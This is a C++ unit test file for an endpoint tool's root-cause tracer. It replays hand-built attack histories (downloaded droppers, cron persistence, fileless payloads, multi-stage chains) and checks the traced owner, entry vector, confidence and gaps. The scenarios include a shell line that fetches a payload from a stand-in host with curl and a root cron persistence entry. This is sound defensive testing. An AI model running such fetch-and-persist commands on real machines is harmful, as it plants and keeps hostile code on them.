// SPDX-License-Identifier: GPL-3.0-or-later
// Root-cause traces over histories that were built by hand: what happened, and what must be said of it, no more.
#include "tests/endpoint/scenario.h"

#include "core/endpoint/trace.h"
#include "core/endpoint/trace_json.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

using namespace metsuke;
using namespace metsuke::endpoint;
using namespace metsuke::endpoint::test;
using testing::Contains;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

namespace {

constexpr const char* kEvil = "203.0.113.9";
constexpr const char* kDrop = "203.0.113.8";
constexpr const char* kCron = "/usr/sbin/cron";
constexpr const char* kInit = "/usr/lib/systemd/systemd";

TraceQuestion beacon(double at, uint16_t localPort = 50'000) {
    TraceQuestion question;
    question.time = seconds(at);
    question.local = *IpAddress::parse("10.0.0.5");
    question.localPort = localPort;
    question.remote = *IpAddress::parse(kEvil);
    question.remotePort = 4444;
    return question;
}

Trace trace(Scenario& scenario, const TraceQuestion& question, const TraceLimits& limits = {}) {
    auto result = traceRootCause(*scenario.history(), question, limits, {});
    EXPECT_TRUE(result.ok()) << result.error().message.id << ' ' << result.error().detail;
    return result.ok() ? std::move(result).value() : Trace{};
}

std::string label(const Trace& trace, std::optional<size_t> node) { return node ? trace.nodes[*node].label : "-"; }
ProcessUid ownerOf(const Trace& trace) { return trace.owner ? trace.nodes[*trace.owner].process : ProcessUid{}; }

std::vector<std::string> gapIds(const Trace& trace) {
    std::vector<std::string> ids;
    for (const TraceGap& gap : trace.gaps) {
        ids.push_back(gap.what.id);
    }
    return ids;
}

std::vector<std::string> blast(const Trace& trace, TraceNode::Kind kind) {
    std::vector<std::string> labels;
    for (const size_t node : trace.blast) {
        if (trace.nodes[node].kind == kind) {
            labels.push_back(trace.nodes[node].label);
        }
    }
    return labels;
}

double confidenceOf(const Trace& trace, TraceEdge::Relation relation) {
    for (const TraceEdge& edge : trace.edges) {
        if (edge.relation == relation) {
            return edge.confidence;
        }
    }
    return -1;
}

const MessageCatalog& catalog() {
    static const auto loaded = MessageCatalog::load(std::filesystem::path(METSUKE_SOURCE_DIR) / "resources" / "i18n");
    return *loaded;
}

std::string story(const Trace& trace, Language language = Language::English) {
    std::string text;
    for (const Message& sentence : traceStory(trace)) {
        text += catalog().render(sentence, language) + '\n';
    }
    return text;
}

/// S1: a script that curl fetched, under another name, by cron and in a session of its own.
struct Dropper {
    Scenario s;
    ProcessUid init, cron, shell, curl, beacon;
    FileId payload{8, 77};
    Dropper() {
        init = s.running(kInit);
        cron = s.running(kCron, init);
        s.at(100);
        shell = s.run(s.running("/usr/sbin/sshd", init), "/bin/bash", {"bash"});
        const auto script = s.run(shell, "/bin/sh", {"sh", "-c", "curl -o .u.part http://203.0.113.8/u; mv .u.part .update"});
        curl = s.run(script, "/usr/bin/curl", {"curl", "-o", "/home/sato/.u.part", "http://203.0.113.8/u"});
        s.connect(curl, kDrop, 8080, 40'000);
        s.write(curl, "/home/sato/.u.part", payload);
        s.end(curl);
        s.rename(s.run(script, "/bin/mv"), "/home/sato/.u.part", "/home/sato/.update", payload);
        s.persist(script, "cron", "/etc/cron.d/upd", "* * * * * root /home/sato/.update");
        s.end(script);
        s.at(160);
        const auto job = s.fork(cron);
        s.exec(job, "/bin/sh", {"sh", "-c", "/home/sato/.update"});
        s.exec(job, "/usr/bin/setsid", {"setsid", "/home/sato/.update"});
        beacon = s.fork(job);
        s.end(job);
        s.exec(beacon, "/home/sato/.update", {"/home/sato/.update"}, payload);
        s.at(200).connect(beacon, kEvil, 4444, 50'000);
    }
};

} // namespace

TEST(Trace, DownloadRenamedAndStartedByCron_isTracedToItsPeer) {
    Dropper d;
    const Trace t = trace(d.s, beacon(200));
    EXPECT_EQ(ownerOf(t), d.beacon);
    EXPECT_EQ(confidenceOf(t, TraceEdge::Relation::Connected), 1);
    EXPECT_EQ(label(t, t.subject), "/home/sato/.update");
    EXPECT_THAT(t.nodes[*t.subject].names, testing::ElementsAre("/home/sato/.u.part", "/home/sato/.update"));
    EXPECT_EQ(t.entry, EntryVector::Download);
    EXPECT_EQ(label(t, t.root), "203.0.113.8:8080");
    EXPECT_GT(t.confidence, 0.5);
    EXPECT_THAT(blast(t, TraceNode::Kind::Persistence), Contains("/etc/cron.d/upd"));
    EXPECT_THAT(blast(t, TraceNode::Kind::Connection), Contains("203.0.113.9:4444"));
    EXPECT_THAT(blast(t, TraceNode::Kind::Process), Not(Contains(kCron)));
    EXPECT_FALSE(t.isCut);
    const std::string text = story(t);
    EXPECT_THAT(text, HasSubstr("/home/sato/.update connected to 203.0.113.9:4444"));
    EXPECT_THAT(text, HasSubstr("was downloaded from 203.0.113.8:8080"));
    EXPECT_THAT(text, Not(HasSubstr("{")));
    EXPECT_THAT(text, Not(HasSubstr("endpoint.")));
    EXPECT_THAT(story(t, Language::Japanese), HasSubstr("ダウンロードされました"));
}

TEST(Trace, Json_isOneDocumentWithEveryNumberInRange) {
    Dropper d;
    const Trace t = trace(d.s, beacon(200));
    const auto json = nlohmann::json::parse(writeTrace(t, catalog(), Language::English));
    EXPECT_EQ(json["metsuke_trace"], 1);
    EXPECT_EQ(json["entry"], "download");
    EXPECT_EQ(json["nodes"].size(), t.nodes.size());
    for (const auto& edge : json["edges"]) {
        EXPECT_LT(edge["from"].get<size_t>(), t.nodes.size());
        EXPECT_LT(edge["to"].get<size_t>(), t.nodes.size());
        EXPECT_THAT(edge["reason"].get<std::string>(), Not(HasSubstr("endpoint.")));
    }
    EXPECT_EQ(json["story"].size(), traceStory(t).size());
}

TEST(Trace, ScriptWrittenInALogin_cameOverSsh) {
    Scenario s;
    const auto init = s.running(kInit);
    const auto sshd = s.running("/usr/sbin/sshd", init);
    s.tell(sshd, LoggedIn{"sato", "ssh", "192.0.2.7"});
    const auto shell = s.at(10).run(sshd, "/bin/bash", {"bash"});
    s.write(shell, "/tmp/drop.sh", {8, 70});
    const auto script = s.run(shell, "/bin/sh", {"sh", "/tmp/drop.sh"});
    const auto curl = s.run(script, "/usr/bin/curl");
    s.connect(curl, kDrop, 80, 40'000);
    s.write(curl, "/tmp/u", {8, 71});
    s.at(20).connect(s.run(script, "/tmp/u", {}, {8, 71}), kEvil, 4444, 50'000);
    const Trace t = trace(s, beacon(20));
    EXPECT_EQ(label(t, t.subject), "/tmp/u");
    EXPECT_EQ(t.entry, EntryVector::Ssh);
    EXPECT_THAT(story(t), HasSubstr("/tmp/drop.sh came in over SSH (sato@192.0.2.7)"));
    EXPECT_THAT(blast(t, TraceNode::Kind::File), testing::IsSupersetOf({"/tmp/u", "/tmp/drop.sh"}));
    EXPECT_THAT(blast(t, TraceNode::Kind::Connection), Contains("203.0.113.8:80")); // the second stage's peer
}

TEST(Trace, NothingRecorded_saysSo) {
    Scenario s;
    s.running(kInit);
    const Trace t = trace(s, beacon(0));
    EXPECT_FALSE(t.owner);
    EXPECT_FALSE(t.root);
    EXPECT_THAT(gapIds(t), Contains("endpoint.gap.no_owner"));
    EXPECT_THAT(story(t), HasSubstr("Nothing is recorded"));
    EXPECT_THAT(gapIds(trace(s, beacon(-90'000))), Contains("endpoint.gap.not_covered"));
}

TEST(Trace, ReusedPid_isNotTheOtherProcess) {
    Scenario s;
    const auto init = s.running(kInit);
    const auto old = processUid("device", "boot", 4711, 1);
    const auto current = processUid("device", "boot", 4711, 2);
    for (const auto& [process, path, at] : {std::tuple{old, "/home/sato/innocent", 10.0}, {current, "/home/sato/.update", 20.0}}) {
        ProcessStarted started;
        started.parent = init;
        started.pid = 4711;
        s.at(at).tell(process, started);
        s.exec(process, path);
        s.connect(process, at < 15 ? kDrop : kEvil, 4444, 50'000);
        s.end(process);
    }
    const Trace t = trace(s, beacon(20));
    EXPECT_EQ(ownerOf(t), current);
    EXPECT_EQ(label(t, t.subject), "/home/sato/.update");
    for (const TraceNode& node : t.nodes) {
        EXPECT_THAT(node.label, Not(HasSubstr("innocent")));
    }
}

TEST(Trace, SevenImagesInOnePid_blameTheScriptThatWasAskedFor) {
    Scenario s;
    const auto init = s.running(kInit);
    s.at(5);
    s.write(s.running("/usr/bin/firefox", init), "/home/sato/run.sh", {8, 5});
    const auto p = s.at(10).fork(s.running("/usr/bin/gnome-shell", init));
    ImageStarted env;
    env.path = "/usr/bin/env";
    env.script = "/home/sato/run.sh";
    env.package = "coreutils";
    env.arguments = {"/usr/bin/env", "bash", "/home/sato/run.sh"};
    s.exec(p, env);
    s.exec(p, "/usr/bin/bash", {"bash", "/home/sato/run.sh"});
    for (const char* wrapper : {"/usr/bin/nice", "/usr/bin/ionice", "/usr/bin/stdbuf", "/usr/bin/env"}) {
        s.exec(p, wrapper, {wrapper, "python3"});
    }
    s.exec(p, "/usr/bin/python3.11", {"python3", "-c", "import socket"});
    s.at(20).connect(p, kEvil, 4444, 50'000);
    s.at(30).exec(p, "/usr/bin/true"); // after the connection: was not it
    const Trace t = trace(s, beacon(20));
    EXPECT_EQ(label(t, t.owner), "/usr/bin/python3.11");
    EXPECT_EQ(label(t, t.subject), "/home/sato/run.sh");
    EXPECT_EQ(t.entry, EntryVector::Browser);
    EXPECT_THAT(gapIds(t), Not(Contains("endpoint.gap.owners")));
}

TEST(Trace, ForkWithoutExec_keepsTheProgramOfItsParentAndTheTree) {
    Scenario s;
    const auto init = s.running(kInit);
    const auto daemon = s.at(10).run(s.running(kCron, init), "/home/sato/.update");
    const auto first = s.fork(daemon);
    const auto second = s.fork(first); // double fork: its parents end, and the kernel gives it to init
    s.end(first);
    s.end(daemon);
    s.at(20).connect(second, kEvil, 4444, 50'000);
    const Trace t = trace(s, beacon(20));
    EXPECT_EQ(ownerOf(t), second);
    EXPECT_EQ(label(t, t.owner), "/home/sato/.update");
    EXPECT_EQ(label(t, t.subject), "/home/sato/.update");
    EXPECT_EQ(confidenceOf(t, TraceEdge::Relation::Inherited), 1);
    EXPECT_EQ(t.nodes[*t.owner].kind, TraceNode::Kind::Process);
    EXPECT_THAT(gapIds(t), Not(Contains("endpoint.gap.reparented")));
}

TEST(Trace, SnapshotChildOfInit_mayHaveBeenReparented) {
    Scenario s;
    const auto orphan = s.running("/home/sato/.update", s.running(kInit));
    s.at(20).connect(orphan, kEvil, 4444, 50'000);
    const Trace t = trace(s, beacon(20));
    EXPECT_THAT(gapIds(t), Contains("endpoint.gap.reparented"));
    EXPECT_LT(confidenceOf(t, TraceEdge::Relation::Started), 1);
    EXPECT_EQ(t.entry, EntryVector::BeforeRecorder);
    EXPECT_THAT(gapIds(t), Contains("endpoint.gap.file_unseen"));
}

TEST(Trace, LocalPortZero_isALessCertainOwner) {
    Scenario s;
    const auto p = s.at(10).run(s.running(kInit), "/home/sato/.update");
    s.connect(p, kEvil, 4444, 0); // seen at SYN_SENT, before a port was chosen
    const Trace t = trace(s, beacon(10));
    EXPECT_EQ(ownerOf(t), p);
    EXPECT_DOUBLE_EQ(confidenceOf(t, TraceEdge::Relation::Connected), 0.7);
}

TEST(Trace, AnotherLocalPort_isAnotherConnection) {
    Scenario s;
    const auto p = s.at(10).run(s.running(kInit), "/home/sato/.update");
    s.connect(p, kEvil, 4444, 50'001);
    const Trace t = trace(s, beacon(10, 50'000));
    EXPECT_THAT(gapIds(t), Contains("endpoint.gap.owner_by_peer"));
    EXPECT_DOUBLE_EQ(confidenceOf(t, TraceEdge::Relation::Connected), 0.3);
    auto translated = beacon(10, 50'000);
    translated.local = *IpAddress::parse("198.51.100.1"); // the network saw the address behind a translation
    EXPECT_DOUBLE_EQ(confidenceOf(trace(s, translated), TraceEdge::Relation::Connected), 0.7);
}

TEST(Trace, TwoPossibleOwners_areSaidToBeTwo) {
    Scenario s;
    const auto init = s.running(kInit);
    s.at(10).connect(s.run(init, "/home/sato/a"), kEvil, 4444, 0);
    s.connect(s.run(init, "/home/sato/b"), kEvil, 4444, 0);
    const Trace t = trace(s, beacon(10));
    EXPECT_THAT(gapIds(t), Contains("endpoint.gap.owners"));
    EXPECT_DOUBLE_EQ(confidenceOf(t, TraceEdge::Relation::Connected), 0.35);
    EXPECT_LT(t.confidence, 0.5);
}

TEST(Trace, OnlyANameWasLookedUp_isHalfSure) {
    Scenario s;
    const auto p = s.at(10).run(s.running(kInit), "/home/sato/.update");
    s.lookUp(p, "evil.example", {kEvil});
    const Trace t = trace(s, beacon(12));
    EXPECT_EQ(ownerOf(t), p);
    EXPECT_FALSE(t.connection);
    EXPECT_THAT(gapIds(t), Contains("endpoint.gap.owner_by_name"));
    EXPECT_LE(t.confidence, 0.5);
}

TEST(Trace, LongConnection_isFoundInItsMiddle) {
    Scenario s;
    const auto p = s.at(10).run(s.running(kInit), "/home/sato/.update");
    Connected connected;
    connected.local = *IpAddress::parse("10.0.0.5");
    connected.remote = *IpAddress::parse(kEvil);
    connected.localPort = 50'000;
    connected.remotePort = 4444;
    connected.closed = seconds(7'000);
    s.tell(p, connected);
    s.at(7'100).running("/usr/bin/true");
    EXPECT_DOUBLE_EQ(confidenceOf(trace(s, beacon(3'600)), TraceEdge::Relation::Connected), 1);
    EXPECT_THAT(gapIds(trace(s, beacon(7'050))), Contains("endpoint.gap.owner_by_peer"));
}

TEST(Trace, ThreeStages_areFollowedToTheFirst) {
    Scenario s;
    const auto init = s.running(kInit);
    const auto shell = s.running("/usr/bin/gnome-shell", init);
    FileId first{8, 1};
    FileId second{8, 2};
    FileId third{8, 3};
    s.at(10).write(s.running("/usr/bin/firefox", init), "/home/sato/Downloads/invoice.part", first);
    s.rename({}, "/home/sato/Downloads/invoice.part", "/home/sato/Downloads/invoice", first);
    const auto stage1 = s.at(20).run(shell, "/home/sato/Downloads/invoice", {}, first);
    s.connect(stage1, kDrop, 80, 40'001);
    s.write(stage1, "/tmp/a.tar", {8, 9});
    s.write(s.run(stage1, "/usr/bin/tar", {"tar", "xf", "/tmp/a.tar"}), "/tmp/x", second);
    s.link(stage1, "/tmp/x", "/tmp/y", second);
    s.remove(stage1, "/tmp/x", second);
    const auto stage2 = s.at(30).run(stage1, "/tmp/y", {}, second);
    s.write(stage2, "/tmp/z", third);
    s.rename(stage2, "/tmp/z", "/home/sato/.update", third);
    const auto stage3 = s.at(40).run(stage2, "/home/sato/.update", {}, third);
    s.connect(stage3, kEvil, 4444, 50'000);
    const Trace t = trace(s, beacon(40));
    EXPECT_EQ(t.entry, EntryVector::Browser);
    EXPECT_EQ(label(t, t.subject), "/home/sato/.update");
    EXPECT_THAT(blast(t, TraceNode::Kind::File), testing::IsSupersetOf({"/home/sato/.update", "/tmp/y", "/home/sato/Downloads/invoice"}));
    EXPECT_THAT(story(t), HasSubstr("/usr/bin/firefox"));
}

TEST(Trace, ReusedFileNumber_isAnotherFile) {
    Scenario s;
    const auto init = s.running(kInit);
    const FileId number{8, 33};
    const auto editor = s.at(5).run(init, "/usr/bin/vim");
    s.connect(editor, "192.0.2.1", 443, 30'000);
    s.write(editor, "/home/sato/note", number);
    s.remove(editor, "/home/sato/note", number);
    const auto curl = s.at(500).run(s.running("/usr/sbin/sshd", init), "/usr/bin/curl");
    s.connect(curl, kDrop, 80, 40'000);
    s.write(curl, "/tmp/u", number);
    s.at(510).connect(s.run(init, "/tmp/u", {}, number), kEvil, 4444, 50'000);
    const Trace t = trace(s, beacon(510));
    EXPECT_EQ(label(t, t.root), "203.0.113.8:80");
    EXPECT_THAT(t.nodes[*t.subject].names, testing::ElementsAre("/tmp/u"));
}

TEST(Trace, MemoryOnly_isFileless) {
    Scenario s;
    const auto p = s.at(10).fork(s.running("/usr/sbin/sshd", s.running(kInit)));
    ImageStarted image;
    image.path = "memfd:x";
    image.isInMemory = true;
    s.exec(p, image);
    s.connect(p, kEvil, 4444, 50'000);
    const Trace t = trace(s, beacon(10));
    EXPECT_EQ(t.entry, EntryVector::Fileless);
    EXPECT_THAT(story(t), HasSubstr("ran from memory"));
}

TEST(Trace, MemoryOnlyByADroppedLoader_isTracedToTheLoader) {
    Scenario s;
    const auto init = s.running(kInit);
    const FileId loader{8, 2};
    const auto curl = s.at(5).run(s.running("/usr/sbin/sshd", init), "/usr/bin/curl");
    s.connect(curl, kDrop, 80, 40'000);
    s.write(curl, "/tmp/l", loader);
    const auto p = s.at(10).run(init, "/tmp/l", {}, loader);
    ImageStarted image;
    image.path = "memfd:x";
    image.isInMemory = true;
    s.exec(p, image);
    s.connect(p, kEvil, 4444, 50'000);
    const Trace t = trace(s, beacon(10));
    EXPECT_EQ(t.entry, EntryVector::Download);
    EXPECT_EQ(t.nodes[*t.subject].kind, TraceNode::Kind::Image);
    EXPECT_THAT(blast(t, TraceNode::Kind::File), Contains("/tmp/l"));
}

TEST(Trace, SelfDeletedProgram_isStillKnown) {
    Scenario s;
    const auto init = s.running(kInit);
    const FileId file{8, 2};
    const auto curl = s.at(5).run(s.running("/usr/sbin/sshd", init), "/usr/bin/curl");
    s.connect(curl, kDrop, 80, 40'000);
    s.write(curl, "/tmp/u", file);
    const auto p = s.at(10).run(init, "/tmp/u", {}, file);
    s.remove(p, "/tmp/u", file);
    s.at(20).connect(p, kEvil, 4444, 50'000);
    const Trace t = trace(s, beacon(20));
    EXPECT_EQ(label(t, t.subject), "/tmp/u");
    EXPECT_TRUE(t.nodes[*t.subject].isRemoved);
    EXPECT_EQ(label(t, t.root), "203.0.113.8:80");
}

TEST(Trace, RemovableMedium_andRemoteShare_areNamed) {
    for (const auto& [kind, vector] : {std::pair{MountKind::Removable, EntryVector::Removable}, {MountKind::Remote, EntryVector::RemoteShare}}) {
        Scenario s;
        const auto init = s.running(kInit);
        s.tell({}, Mounted{"/dev/sdb1", "/media/usb", "vfat", kind, 2049, false});
        const auto copy = s.at(10).run(s.running("/usr/bin/gnome-shell", init), "/usr/bin/cp", {"cp", "/media/usb/tool", "/home/sato/tool"});
        s.write(copy, "/home/sato/tool", {8, 2});
        s.at(20).connect(s.run(init, "/home/sato/tool", {}, {8, 2}), kEvil, 4444, 50'000);
        Trace t = trace(s, beacon(20));
        EXPECT_EQ(t.entry, vector);
        EXPECT_LT(t.confidence, 0.8); // what was read is inferred
        s.at(30).connect(s.run(init, "/media/usb/tool", {}, {2049, 7}), kEvil, 4444, 50'001);
        t = trace(s, beacon(30, 50'001));
        EXPECT_EQ(t.entry, vector);
        EXPECT_GT(t.confidence, 0.9);
    }
}

TEST(Trace, NotedUrl_isTheRoot) {
    Scenario s;
    const auto init = s.running(kInit);
    FileChanged written;
    written.path = "/home/sato/tool";
    written.file = {8, 2};
    written.originUrl = "https://files.example/tool";
    s.at(10).tell(s.run(s.running("/usr/sbin/sshd", init), "/usr/bin/wget"), written);
    s.at(20).connect(s.run(init, "/home/sato/tool", {}, {8, 2}), kEvil, 4444, 50'000);
    const Trace t = trace(s, beacon(20));
    EXPECT_EQ(t.entry, EntryVector::Download);
    EXPECT_EQ(label(t, t.root), "https://files.example/tool");
}

TEST(Trace, ReplacedSystemProgram_isBlamedDespiteItsPackage) {
    Scenario s;
    const auto init = s.running(kInit);
    const auto evil = s.at(5).run(init, "/home/sato/.update");
    s.write(evil, "/usr/sbin/nginx", {8, 5});
    s.at(20).connect(s.run(init, "/usr/sbin/nginx", {}, {8, 5}), kEvil, 4444, 50'000);
    const Trace t = trace(s, beacon(20));
    EXPECT_EQ(label(t, t.subject), "/usr/sbin/nginx");
    EXPECT_THAT(blast(t, TraceNode::Kind::File), Contains("/home/sato/.update"));
}

TEST(Trace, BenignPrograms_areNotBlamed) {
    Scenario s;
    const auto init = s.running(kInit);
    const auto cron = s.running(kCron, init);
    const auto apt = s.at(5).run(s.run(s.running("/usr/sbin/sshd", init), "/bin/bash"), "/usr/bin/apt-get", {"apt-get", "upgrade"});
    s.connect(apt, kEvil, 4444, 50'000);
    const auto dpkg = s.run(apt, "/usr/bin/dpkg");
    s.write(dpkg, "/usr/sbin/nginx", {8, 5});
    s.persist(dpkg, "cron", "/etc/cron.d/sysstat", "5 * * * * root /usr/lib/sysstat/debian-sa1");
    s.at(20).connect(s.run(s.run(cron, "/bin/sh", {"sh", "-c", "/usr/lib/sysstat/debian-sa1"}), "/usr/lib/sysstat/debian-sa1"), kEvil, 4444, 50'001);
    s.at(30).connect(s.running("/usr/bin/firefox", init), kEvil, 4444, 50'002);
    s.at(40).connect(s.run(init, "/usr/sbin/nginx", {}, {8, 5}), kEvil, 4444, 50'003);
    const std::vector<std::pair<double, EntryVector>> expected{
        {5.1, EntryVector::PackageManager}, {20, EntryVector::Unknown}, {30, EntryVector::Browser}, {40, EntryVector::Unknown}};
    for (size_t i = 0; i < expected.size(); ++i) {
        const Trace t = trace(s, beacon(expected[i].first, static_cast<uint16_t>(50'000 + i)));
        EXPECT_TRUE(t.owner);
        EXPECT_FALSE(t.subject) << label(t, t.subject);
        EXPECT_THAT(t.blast, IsEmpty()) << i;
        EXPECT_EQ(t.entry, expected[i].second) << i;
        EXPECT_THAT(story(t), HasSubstr("belongs to the system"));
    }
}

TEST(Trace, ProgramCalledLikeABrowser_isNone) {
    Scenario s;
    const auto init = s.running(kInit);
    const auto fake = s.at(5).run(init, "/tmp/firefox", {}, {8, 1});
    s.connect(fake, kDrop, 80, 40'000);
    s.write(fake, "/home/sato/x", {8, 2});
    s.at(20).connect(s.run(init, "/home/sato/x", {}, {8, 2}), kEvil, 4444, 50'000);
    EXPECT_NE(trace(s, beacon(20)).entry, EntryVector::Browser);
}

TEST(Trace, SeveralPeersAndWriters_areNamedAsUncertain) {
    Scenario s;
    const auto init = s.running(kInit);
    const auto sshd = s.running("/usr/sbin/sshd", init);
    const auto other = s.at(5).run(sshd, "/usr/bin/sed");
    s.write(other, "/tmp/u", {8, 2});
    const auto curl = s.at(8).run(sshd, "/usr/bin/curl");
    s.connect(curl, kDrop, 80, 40'000);
    s.connect(curl, "203.0.113.7", 80, 40'002);
    s.write(curl, "/tmp/u", {8, 2});
    s.at(20).connect(s.run(init, "/tmp/u", {}, {8, 2}), kEvil, 4444, 50'000);
    const Trace t = trace(s, beacon(20));
    EXPECT_THAT(gapIds(t), testing::IsSupersetOf({"endpoint.gap.peers", "endpoint.gap.writers"}));
    EXPECT_DOUBLE_EQ(confidenceOf(t, TraceEdge::Relation::Fetched), 0.45);
    EXPECT_LT(t.confidence, 0.5);
}

TEST(Trace, LostEvents_areNamedAndNeverMadeUpFor) {
    Scenario s;
    const auto init = s.running(kInit);
    s.at(5).tell({}, Gap{"file", seconds(15), 400, "queue_overflow"});
    s.at(20).connect(s.run(init, "/tmp/u", {}, {8, 2}), kEvil, 4444, 50'000);
    const Trace t = trace(s, beacon(20));
    EXPECT_EQ(t.entry, EntryVector::Unknown); // not "before the recorder": it may have come in the gap
    EXPECT_FALSE(t.root);
    EXPECT_THAT(gapIds(t), testing::IsSupersetOf({"endpoint.gap.recorded", "endpoint.gap.file_unseen"}));
    EXPECT_EQ(t.confidence, 0);
    EXPECT_THAT(story(t), HasSubstr("not recorded"));
}

TEST(Trace, MissingStart_isAGap) {
    Scenario s;
    s.running(kInit);
    const ProcessUid unseen{5, 5};
    s.at(10).connect(unseen, kEvil, 4444, 50'000);
    const Trace t = trace(s, beacon(10));
    EXPECT_EQ(ownerOf(t), unseen);
    EXPECT_FALSE(t.subject);
    EXPECT_THAT(gapIds(t), testing::IsSupersetOf({"endpoint.gap.no_start", "endpoint.gap.no_image"}));
}

TEST(Trace, ForkBomb_endsAtItsLimits) {
    Scenario s;
    const auto init = s.running(kInit);
    auto p = s.at(10).run(init, "/home/sato/.update");
    s.connect(p, kEvil, 4444, 50'000);
    for (int i = 0; i < 6'000; ++i) {
        const auto child = s.fork(p);
        s.write(child, "/tmp/f" + std::to_string(i), {8, static_cast<uint64_t>(1'000 + i)});
        p = i % 3 == 0 ? child : p;
    }
    const Trace t = trace(s, beacon(10));
    EXPECT_LE(t.nodes.size(), TraceLimits{}.nodes);
    EXPECT_EQ(label(t, t.subject), "/home/sato/.update");
    TraceLimits tight;
    tight.nodes = 20;
    const Trace cut = trace(s, beacon(10), tight);
    EXPECT_TRUE(cut.isCut);
    EXPECT_LE(cut.nodes.size(), 20U);
    EXPECT_THAT(gapIds(cut), Contains("endpoint.gap.cut"));
    TraceLimits none;
    none.nodes = 0;
    EXPECT_TRUE(trace(s, beacon(10), none).nodes.empty());
}

TEST(Trace, Stopped_isCancelled) {
    Dropper d;
    std::stop_source stop;
    stop.request_stop();
    const auto result = traceRootCause(*d.s.history(), beacon(200), {}, stop.get_token());
    ASSERT_FALSE(result.ok());
    EXPECT_EQ(result.error().code, ErrorCode::Cancelled);
}
